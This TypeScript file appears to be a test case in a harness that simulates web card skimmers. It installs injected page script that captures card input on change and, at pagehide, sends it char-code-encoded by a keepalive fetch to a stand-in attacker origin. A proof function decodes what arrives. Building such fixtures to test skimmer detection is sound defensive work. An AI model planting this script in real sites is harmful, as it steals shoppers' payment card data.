import { holds, js, skimmer } from '../behaviour.ts';
import { bodies } from '../site/arrivals.ts';
import { withCard } from '../snippets.ts';

export default skimmer({
  id: 'pagehide-keepalive',
  why: "Sends when the page is left, by a fetch that outlives it: the browser's own record of the page has ended by then.",
  covers: ['sending: fetch', 'hard: stash', 'encoding: char codes'],
  base: 'direct',
  install: (site) =>
    site.append(
      withCard(js`
  var kept = '';
  document.addEventListener('change', function () { kept = card(); });
  addEventListener('pagehide', function () {
    if (kept.length > 20) fetch('${site.origins.evil}/bye', { method: 'POST', mode: 'no-cors', keepalive: true, body: Array.from(kept).map(function (c) { return c.charCodeAt(0); }).join(',') });
  });`),
    ),
  proof: holds((arrived) =>
    bodies(arrived).map((body) => String.fromCharCode(...body.split(',').map(Number))),
  ),
});
